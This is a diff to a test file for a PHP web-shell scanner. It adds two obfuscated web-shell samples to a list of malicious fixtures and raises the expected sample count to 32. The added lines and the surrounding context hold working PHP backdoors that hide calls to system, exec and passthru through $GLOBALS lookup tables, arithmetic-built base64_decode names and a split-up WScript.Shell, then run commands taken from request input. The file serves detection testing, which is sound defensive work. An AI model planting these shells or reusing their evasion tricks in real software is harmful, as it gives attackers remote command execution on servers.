@@ -46,6 +46,8 @@ const MALICIOUS: [string, string, string][] = [
   ['functions named by characters picked from a table in $GLOBALS, read through a name given the whole of $GLOBALS', '/var/www/html/z4.php', `<?php\n$g = $GLOBALS;\n\${"\\x47\\x4c\\x4fB\\x41\\x4c\\x53"}['t'] = "xsyetmavlpo_ECIKU";\n$g[$g['t'][1] . $g['t'][2] . $g['t'][1]] = 1;\n$c = $g[$g['t'][11] . $g['t'][13] . $g['t'][10] . $g['t'][10] . $g['t'][15] . $g['t'][16] . $g['t'][14] . $g['t'][12]];\n$g['t'][3] . $g['t'][6] . $g['t'][7];\n@$g[$g['t'][1] . $g['t'][2] . $g['t'][1] . $g['t'][4] . $g['t'][3] . $g['t'][5]]($c['c']);\n@$g[$g['t'][3] . $g['t'][7] . $g['t'][6] . $g['t'][8]]($c['e']);\n@$g[$g['t'][9] . $g['t'][2] . $g['t'][1] . $g['t'][4]]($c['p']);\n`],
   ['a decoder\'s name joined with a number worked out, (128/2), then called on request input', '/var/www/html/z5.php', `<?php\n$d = 'base' . (128/2) . '_de' . 'code';\n$f = $d('c3lzdGVt');\n$f($_POST['c']);\n`],
   ['a COM WScript.Shell, its name in pieces, running cmd.exe /c with the request\'s command', '/var/www/html/z6.php', `<?php\nclass Notify { public function send($m) { return strlen($m); } }\n$w = new COM('W' . 'Scr' . 'ip' . 't.she' . 'll');\n$e = $w->exec('cm' . 'd.e' . 'xe /c ' . $_POST['command']);\necho $e->StdOut->ReadAll();\n`],
+  ['$GLOBALS table picks through an alias of an alias of ($GLOBALS) (S35B-17, -18)', '/var/www/html/z7.php', `<?php\n$g = ($GLOBALS);\n$h = $g;\n$GLOBALS['t'] = "xsyetmavlpo_ECIKU";\n$c = $h[$h['t'][11] . $h['t'][13] . $h['t'][10] . $h['t'][10] . $h['t'][15] . $h['t'][16] . $h['t'][14] . $h['t'][12]];\n@$h[$h['t'][1] . $h['t'][2] . $h['t'][1] . $h['t'][4] . $h['t'][3] . $h['t'][5]]($c['c']);\n@$h[$h['t'][3] . $h['t'][7] . $h['t'][6] . $h['t'][8]]($c['e']);\n@$h[$h['t'][9] . $h['t'][2] . $h['t'][1] . $h['t'][4]]($c['p']);\n`],
+  ['a decoder\'s name joined with (int)(128/2), 2**6 or 60+2+2 (S35B-19, -20)', '/var/www/html/z8.php', `<?php\n$d = 'base' . (int)(128/2) . '_de' . 'code';\n$e = 'base' . (2**6) . '_de' . 'code';\n$g = 'base' . (60+2+2) . '_de' . 'code';\n$f = $d('c3lzdGVt');\n$f($_POST['c']);\n`],
   ['a directory browser finding drives by letter and listing the folder the request names', '/var/www/html/r.php', `<?php\nfunction drives() { foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo "<a href='?d=$l:'>$l:</a> "; }\ndrives();\n$d = isset($_GET['d']) ? $_GET['d'] : getcwd();\n$h = opendir($d);\nwhile (($f = readdir($h)) !== false) echo htmlspecialchars($f), '<br>';\n`],
 ];
 
@@ -92,7 +94,7 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 30));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 32));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
